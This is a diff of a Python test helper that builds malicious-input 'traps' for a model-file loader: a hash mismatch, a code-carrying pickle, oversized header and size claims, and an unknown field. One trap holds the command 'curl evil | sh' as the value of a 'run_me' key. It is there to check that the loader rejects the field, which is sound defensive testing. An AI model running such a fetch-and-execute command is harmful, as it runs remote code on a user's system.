@@ -45,16 +45,16 @@ class Trap:
 def traps() -> tuple[Trap, ...]:
     """One of each kind."""
     digits = resource("practice/digits-train.safetensors").read_bytes()
-    other = bytes([digits[-1] ^ 1]).rjust(len(digits), b"\0")
+    promised, given = digits[:-8] + secrets.token_bytes(8), digits[:-8] + secrets.token_bytes(8)
     pickled = pickle.dumps({"weights": [0.0] * 2_000})
     header = json.dumps({"x": {"dtype": "F32", "shape": [2_500_000_000], "data_offsets": [0, 10_000_000_000]}}).encode()
     boast = struct.pack("<Q", len(header)) + header + bytes(64)
     return (
-        _trap("a wrong hash", "does not match its hash", _data(digits), other),
+        _trap("a wrong hash", "does not match its hash", _data(promised), given),
         _trap("a pickle", "is a Python pickle, which can carry code", _data(pickled), pickled),
         _trap("a header that claims 10 GB", "the file for data is refused", _data(boast), boast),
-        _trap("an unknown key", "unknown field `run_me`", _data(digits) | {"run_me": "curl evil | sh"}),
-        _trap("a claim of 10 GB", "claims 10.0 GB, more than the", _data(digits, size=10_000_000_000)),
+        _trap("an unknown key", "unknown field `run_me`", _data(promised) | {"run_me": "curl evil | sh"}),
+        _trap("a claim of 10 GB", "claims 10.0 GB, more than the", _data(promised, size=10_000_000_000)),
         _trap("a file that is not there", "is not in the market's store", _data(secrets.token_bytes(100))),
     )
 
